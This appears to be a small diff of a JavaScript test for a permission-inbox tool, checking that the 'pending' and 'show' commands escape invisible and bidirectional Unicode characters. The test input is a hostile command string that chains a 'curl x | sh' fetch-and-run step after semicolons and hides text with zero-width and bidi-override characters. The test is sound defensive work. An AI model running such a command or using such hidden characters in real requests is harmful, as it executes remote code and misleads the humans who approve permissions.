@@ -122,7 +122,9 @@ describe('the permission inbox', () => {
 
   it('pending and show escape what would hide or reorder the request (issue 40 item 5): the input is the same JSON', () => {
     // A line separator, zero-width characters, a soft hyphen, the Arabic letter mark, a bidi override and isolate.
-    const hostile = { command: "true '\u202e\u2066' ; curl x | sh ; echo \u200bzw\u2060 \u00adsh\u061c\u2028 ok\u2069" };
+    const hostile = {
+      command: "true '\u202e\u2066' ; curl x | sh ; echo \u200bzw\u2060 \u00adsh\u061c\u2028 ok\u2069",
+    };
     const id = parked(hostile);
     const hidden = /[\u2028\u2029\u200b-\u200f\u2060\u00ad\u061c\u202a-\u202e\u2066-\u2069]/;
     const pending = cli(['pending']).stdout;
